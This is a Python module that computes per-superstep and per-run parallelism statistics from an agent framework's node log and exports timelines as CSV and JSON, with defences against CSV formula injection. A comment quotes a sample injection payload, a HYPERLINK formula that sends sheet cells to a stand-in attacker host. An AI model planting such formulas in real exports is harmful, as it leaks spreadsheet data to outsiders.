"""Parallelism statistics and exports for the node log.

Every function here takes node-log rows exactly as
``agents.nodelog.node_runs`` returns them (dicts with the keys ``id, agent,
thread_id, run_id, node, task_id, step, label, started_at, ended_at, status,
error``; times in Unix epoch seconds) and works without Streamlit, so the
Timeline page, the CLI and the tests share one implementation.

Definitions used throughout:

* **wall time** of a group of calls: first start to last end.
* **summed time**: the sum of the calls' own durations.
* **speed-up**: summed / wall; defined as 1.0 when the wall time is 0, so a
  group of instantaneous calls reads as "no parallel gain" instead of NaN.
* **efficiency**: speed-up / number of calls (1.0 = perfectly overlapped).
* **parallel efficiency** of a run: that of its supersteps of more than one
  call together; a run's own efficiency divides by its sequential calls too,
  so one fan-out among twelve steps reads 0.17 however well it overlapped.

A row whose ``ended_at`` is NULL (still running, or cut by a crash) is
treated as ending at the latest time observed *in its own run*, and is
flagged ``open``. Its own run, not the whole thread: a call cut by a crash in
run 1 must not stretch across the human wait to the end of run 2.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass
from typing import Any

from agents.durations import iso_utc

NodeLogRow = Mapping[str, Any]

CSV_LEAD_COLUMNS = ("timestamp", "event", "subagent_name", "duration_sec")
CSV_EXTRA_COLUMNS = ("agent", "thread_id", "run_id", "node", "label", "task_id", "step", "status", "error")
CSV_COLUMNS = CSV_LEAD_COLUMNS + CSV_EXTRA_COLUMNS


@dataclass(frozen=True)
class NodeCall:
    """One node call with its end time resolved.

    Attributes:
        id: Node-log row id (insertion order).
        agent: Agent name.
        thread_id: LangGraph thread id.
        run_id: One id per invoke/stream call.
        node: Node name.
        task_id: LangGraph task id.
        step: Superstep number (``langgraph_step``).
        label: Free label such as a research subtopic ('' if none).
        started_at: Start, Unix epoch seconds.
        ended_at: End, Unix epoch seconds; for an open call the latest time
            observed in its run.
        status: ``running``, ``ok``, ``error`` or ``interrupted``.
        error: Error text ('' if none).
        open: True when the log holds no end time for this call.
    """

    id: int
    agent: str
    thread_id: str
    run_id: str
    node: str
    task_id: str
    step: int
    label: str
    started_at: float
    ended_at: float
    status: str
    error: str
    open: bool

    @property
    def duration(self) -> float:
        """Seconds from start to (resolved) end."""
        return self.ended_at - self.started_at

    @property
    def display_name(self) -> str:
        """``node`` or ``node:label``: the ``subagent_name`` of the CSV."""
        return f"{self.node}:{self.label}" if self.label else self.node


@dataclass(frozen=True)
class SuperstepStats:
    """Parallelism of one superstep of one run.

    Attributes:
        run_id: The run the superstep belongs to.
        step: Superstep number.
        tasks: Number of node calls in the superstep.
        started_at: First start, Unix epoch seconds.
        ended_at: Last (resolved) end, Unix epoch seconds.
        wall_seconds: ``ended_at - started_at``.
        summed_seconds: Sum of the calls' durations.
        speedup: ``summed_seconds / wall_seconds`` (1.0 when wall is 0).
        efficiency: ``speedup / tasks``.
        nodes: Distinct node names in first-start order.
        open_tasks: Calls without a logged end time.
    """

    run_id: str
    step: int
    tasks: int
    started_at: float
    ended_at: float
    wall_seconds: float
    summed_seconds: float
    speedup: float
    efficiency: float
    nodes: tuple[str, ...]
    open_tasks: int


@dataclass(frozen=True)
class RunSummary:
    """Parallelism of a whole run (one invoke/stream call, e.g. a resume).

    Attributes:
        run_id: The run.
        agent: Agent name.
        thread_id: Thread id.
        started_at: First start in the run, Unix epoch seconds.
        ended_at: Last (resolved) end in the run, Unix epoch seconds.
        supersteps: Number of distinct supersteps.
        tasks: Number of node calls.
        wall_seconds: ``ended_at - started_at``.
        summed_seconds: Sum of all calls' durations.
        speedup: ``summed_seconds / wall_seconds`` (1.0 when wall is 0).
        efficiency: ``speedup / tasks`` (low whenever most steps are sequential).
        errors: Calls with status ``error``.
        interrupted: Calls with status ``interrupted``.
        open_tasks: Calls without a logged end time.
        parallel_supersteps: Supersteps of more than one call.
        parallel_efficiency: Theirs together (``parallel_efficiency``), or None.
    """

    run_id: str
    agent: str
    thread_id: str
    started_at: float
    ended_at: float
    supersteps: int
    tasks: int
    wall_seconds: float
    summed_seconds: float
    speedup: float
    efficiency: float
    errors: int
    interrupted: int
    open_tasks: int
    parallel_supersteps: int = 0
    parallel_efficiency: float | None = None


def node_calls(rows: Iterable[NodeLogRow]) -> list[NodeCall]:
    """Resolve node-log rows into calls with a definite end: one per row, sorted by ``(started_at, id)``.

    A NULL ``ended_at`` becomes the latest start or end observed in the same run and the call is
    marked ``open``. An end logged before its start (clock step) is clamped to the start so
    durations are never negative.

    Raises:
        KeyError: A row lacks a key of the node-log contract.
    """
    return [call for _, call in _resolved(rows)]


def _resolved(
    rows: Iterable[NodeLogRow], latest: Mapping[str, float] | None = None
) -> list[tuple[NodeLogRow, NodeCall]]:
    """Pair every row with its resolved call, sorted by ``(started_at, id)``; ``latest`` as in ``timeline_of``."""
    rows = list(rows)
    latest_in_run: dict[str, float] = dict(latest or {})
    for row in rows:
        times = [row["started_at"]] + ([row["ended_at"]] if row["ended_at"] is not None else [])
        run_id = row["run_id"]
        latest_in_run[run_id] = max(latest_in_run.get(run_id, float("-inf")), *times)
    pairs = [(row, _node_call(row, latest_in_run[row["run_id"]])) for row in rows]
    pairs.sort(key=lambda pair: (pair[1].started_at, pair[1].id))
    return pairs


def _node_call(row: NodeLogRow, latest_in_run: float) -> NodeCall:
    started_at = float(row["started_at"])
    is_open = row["ended_at"] is None
    ended_at = float(latest_in_run if is_open else row["ended_at"])
    return NodeCall(
        id=int(row["id"]),
        agent=str(row["agent"]),
        thread_id=str(row["thread_id"]),
        run_id=str(row["run_id"]),
        node=str(row["node"]),
        task_id=str(row["task_id"] or ""),
        step=int(row["step"]) if row["step"] is not None else -1,
        # The contract says '' for "none", but tolerate NULLs from older rows.
        label=str(row["label"] or ""),
        started_at=started_at,
        ended_at=max(ended_at, started_at),
        status=str(row["status"]),
        error=str(row["error"] or ""),
        open=is_open,
    )


def parallel_ratios(wall_seconds: float, summed_seconds: float, tasks: int) -> tuple[float, float]:
    """``(speedup, efficiency)`` of ``tasks`` calls: ``summed / wall`` (1.0 when ``wall`` is 0), that / ``tasks``."""
    speedup = summed_seconds / wall_seconds if wall_seconds > 0 else 1.0
    return speedup, speedup / tasks


def _group_in_order(calls: Sequence[NodeCall], key: Any) -> list[list[NodeCall]]:
    """Group calls by ``key(call)``, groups ordered by their first start."""
    groups: dict[Any, list[NodeCall]] = {}
    # Dicts keep insertion order, so visiting calls by start orders the groups.
    for call in sorted(calls, key=lambda call: (call.started_at, call.id)):
        groups.setdefault(key(call), []).append(call)
    return list(groups.values())


def _superstep(calls: Sequence[NodeCall]) -> SuperstepStats:
    started_at = min(call.started_at for call in calls)
    ended_at = max(call.ended_at for call in calls)
    summed = sum(call.duration for call in calls)
    speedup, efficiency = parallel_ratios(ended_at - started_at, summed, len(calls))
    return SuperstepStats(
        run_id=calls[0].run_id,
        step=calls[0].step,
        tasks=len(calls),
        started_at=started_at,
        ended_at=ended_at,
        wall_seconds=ended_at - started_at,
        summed_seconds=summed,
        speedup=speedup,
        efficiency=efficiency,
        nodes=tuple(dict.fromkeys(call.node for call in calls)),
        open_tasks=sum(call.open for call in calls),
    )


def superstep_stats_of_calls(calls: Sequence[NodeCall]) -> list[SuperstepStats]:
    """Per-superstep parallelism of calls resolved by ``node_calls``: one ``SuperstepStats`` per
    ``(run_id, step)``, ordered by first start."""
    groups = _group_in_order(calls, lambda call: (call.run_id, call.step))
    return [_superstep(group) for group in groups]


def parallel_efficiency(supersteps: Iterable[SuperstepStats]) -> tuple[int, float | None]:
    """``(count, efficiency)`` of the supersteps of more than one call: summed time / sum of tasks x wall.

    That is their efficiencies' mean weighted by tasks x wall (the plain mean
    when none took wall time); None when there is no such superstep.
    """
    parallel = [stats for stats in supersteps if stats.tasks > 1]
    capacity = sum(stats.tasks * stats.wall_seconds for stats in parallel)
    if capacity > 0:
        return len(parallel), sum(stats.summed_seconds for stats in parallel) / capacity
    return len(parallel), (sum(stats.efficiency for stats in parallel) / len(parallel)) if parallel else None


def _run_summary(calls: Sequence[NodeCall], steps: Sequence[SuperstepStats]) -> RunSummary:
    """The summary of one run's calls, given that run's supersteps."""
    started_at = min(call.started_at for call in calls)
    ended_at = max(call.ended_at for call in calls)
    summed = sum(call.duration for call in calls)
    speedup, efficiency = parallel_ratios(ended_at - started_at, summed, len(calls))
    parallel_steps, parallel = parallel_efficiency(steps)
    return RunSummary(
        run_id=calls[0].run_id,
        agent=calls[0].agent,
        thread_id=calls[0].thread_id,
        started_at=started_at,
        ended_at=ended_at,
        supersteps=len({call.step for call in calls}),
        tasks=len(calls),
        wall_seconds=ended_at - started_at,
        summed_seconds=summed,
        speedup=speedup,
        efficiency=efficiency,
        errors=sum(call.status == "error" for call in calls),
        interrupted=sum(call.status == "interrupted" for call in calls),
        open_tasks=sum(call.open for call in calls),
        parallel_supersteps=parallel_steps,
        parallel_efficiency=parallel,
    )


def run_summaries_of_calls(
    calls: Sequence[NodeCall], supersteps: Sequence[SuperstepStats] | None = None
) -> list[RunSummary]:
    """One ``RunSummary`` per ``run_id`` of calls resolved by ``node_calls`` (a thread that paused and resumed
    has several), ordered by first start; ``supersteps`` are the calls' own, when computed already."""
    supersteps = superstep_stats_of_calls(calls) if supersteps is None else supersteps
    steps_of: dict[str, list[SuperstepStats]] = {}
    for stats in supersteps:
        steps_of.setdefault(stats.run_id, []).append(stats)
    return [_run_summary(group, steps_of[group[0].run_id]) for group in _group_in_order(calls, lambda c: c.run_id)]


@dataclass(frozen=True)
class Timeline:
    """A thread's (or run's) node calls with their statistics, computed once.

    A page draws a figure, a table and an export from one ``Timeline``
    instead of resolving the rows again for each of them.

    Attributes:
        calls: The resolved calls, ordered by ``(started_at, id)``.
        supersteps: One ``SuperstepStats`` per (run, step), by first start.
        runs: One ``RunSummary`` per run, by first start.
    """

    calls: tuple[NodeCall, ...]
    supersteps: tuple[SuperstepStats, ...]
    runs: tuple[RunSummary, ...]

    @property
    def open_calls(self) -> int:
        """Calls without a logged end time."""
        return sum(run.open_tasks for run in self.runs)

    def steps_by_run(self) -> dict[str, list[SuperstepStats]]:
        """The supersteps grouped by run id, each list in first-start order."""
        grouped: dict[str, list[SuperstepStats]] = {run.run_id: [] for run in self.runs}
        for stats in self.supersteps:
            grouped[stats.run_id].append(stats)
        return grouped

    def of_run(self, run_id: str) -> Timeline:
        """The part of the timeline that belongs to one run.

        An open call's end is resolved within its own run, so the part equals
        ``timeline_of`` on that run's rows without resolving them again.
        """
        return Timeline(
            calls=tuple(call for call in self.calls if call.run_id == run_id),
            supersteps=tuple(stats for stats in self.supersteps if stats.run_id == run_id),
            runs=tuple(run for run in self.runs if run.run_id == run_id),
        )


def timeline_of_calls(calls: Sequence[NodeCall]) -> Timeline:
    """The ``Timeline`` of calls already resolved by ``node_calls`` (in start order)."""
    supersteps = superstep_stats_of_calls(calls)  # once, for the table and for the run summaries
    return Timeline(
        calls=tuple(calls), supersteps=tuple(supersteps), runs=tuple(run_summaries_of_calls(calls, supersteps))
    )


def timeline_of(rows: Iterable[NodeLogRow], latest: Mapping[str, float] | None = None) -> Timeline:
    """Resolve node-log rows once into calls, supersteps and run summaries (``node_calls``,
    ``superstep_stats_of_calls`` and ``run_summaries_of_calls`` of those calls).

    ``latest`` maps a run id to the latest moment logged in the run, for rows that are only its
    latest ones (``agents.run_index.run_tail``), so an open call ends where it would among all its rows.
    """
    return timeline_of_calls([call for _, call in _resolved(rows, latest)])


def _csv_events(call: NodeCall) -> list[tuple[tuple[float, int, int], list[str]]]:
    """START and END CSV lines for one call, each with its sort key."""
    extra = [
        call.agent,
        call.thread_id,
        call.run_id,
        call.node,
        call.label,
        call.task_id,
        str(call.step),
        call.status,
        call.error,
    ]
    start_line = [iso_utc(call.started_at), "START", call.display_name, "", *extra]
    # At equal timestamps an END sorts before a START (a node hands over to the
    # next one), except the END of a zero-length call, which follows its START.
    start_key = (call.started_at, 1, call.id)
    events = [(start_key, start_line)]
    if not call.open:
        end_rank = 2 if call.duration == 0 else 0
        end_line = [iso_utc(call.ended_at), "END", call.display_name, f"{call.duration:.6f}", *extra]
        events.append(((call.ended_at, end_rank, call.id), end_line))
    return events


#: How a cell a spreadsheet would read as a formula begins (OWASP's CSV injection list): ``=``, ``+``, ``-``,
#: ``@``, a tab or a carriage return. A label ``=HYPERLINK("http://evil.example/?x="&A1,"Click me")``
#: would be a live link in Excel or LibreOffice, with the sheet's other cells in its address.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: A number as a cell holds one (``-1``, ``2.250000``, ``1e-3``): a spreadsheet reads it as that number.
_NUMBER = re.compile(r"[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def spreadsheet_cell(cell: str) -> str:
    """A CSV cell as a spreadsheet should read it: text that begins as a formula does (:data:`FORMULA_STARTS`)
    gets a ``'`` before it, so it reads as text; a number (a negative one too) stays as it is."""
    if cell.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def csv_text(header: Sequence[str], lines: Iterable[Sequence[str]]) -> str:
    """The CSV of ``header`` and ``lines``, ``\\n`` ended, every cell through :func:`spreadsheet_cell`: the one
    CSV writer. Fields are quoted as needed so commas, quotes, line breaks and non-ASCII text read back
    unchanged; a line with a carriage return in it has every field quoted, as Python's ``csv`` writer
    quotes a field for the characters of its line ending alone (``\\n`` here), and a reader would end
    the line at an unquoted ``\\r``."""
    buffer = io.StringIO()
    plain = csv.writer(buffer, lineterminator="\n")
    quoted = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL)
    for line in (header, *lines):
        cells = [spreadsheet_cell(cell) for cell in line]
        (quoted if any("\r" in cell for cell in cells) else plain).writerow(cells)
    return buffer.getvalue()


def timeline_csv(rows: Iterable[NodeLogRow]) -> str:
    """Export the node log in the ``subagent_log.csv`` layout plus our columns.

    Columns: ``timestamp,event,subagent_name,duration_sec`` then
    ``agent,thread_id,run_id,node,label,task_id,step,status,error``. Each call
    gives a START line (empty ``duration_sec``) and an END line (duration in
    seconds, 6 decimals). A call without a logged end (running or crashed)
    gives only its START line: inventing an END event would misreport what
    happened; its ``status`` column says ``running``. Lines are ordered by
    timestamp, after a header, written by :func:`csv_text`: a label or an error that begins as a
    spreadsheet formula does (``=``, ``+``, ``-``, ``@``) reads back with a ``'`` before it.
    """
    return timeline_csv_of_calls(node_calls(rows))


def timeline_csv_of_calls(calls: Iterable[NodeCall]) -> str:
    """``timeline_csv`` for calls already resolved by ``node_calls``."""
    events = [event for call in calls for event in _csv_events(call)]
    events.sort(key=lambda event: event[0])
    return csv_text(CSV_COLUMNS, (line for _, line in events))


def timeline_json(rows: Iterable[NodeLogRow]) -> dict[str, Any]:
    """Machine-readable timeline for the CLI's ``--json``.

    ``{"rows": [...], "supersteps": [...], "runs": [...]}``: the rows as given (in start order, plus
    ``open`` and the resolved ``effective_ended_at``), the per-superstep stats and the run summaries,
    as plain JSON-serialisable values (tuples become lists).
    """
    pairs = _resolved(rows)  # resolved once for the rows, the supersteps and the runs
    out_rows = [{**dict(row), "open": call.open, "effective_ended_at": call.ended_at} for row, call in pairs]
    timeline = timeline_of_calls([call for _, call in pairs])
    return {
        "rows": out_rows,
        "supersteps": [_jsonable(stats) for stats in timeline.supersteps],
        "runs": [_jsonable(summary) for summary in timeline.runs],
    }


def _jsonable(item: SuperstepStats | RunSummary) -> dict[str, Any]:
    record = dataclasses.asdict(item)
    return {key: list(value) if isinstance(value, tuple) else value for key, value in record.items()}
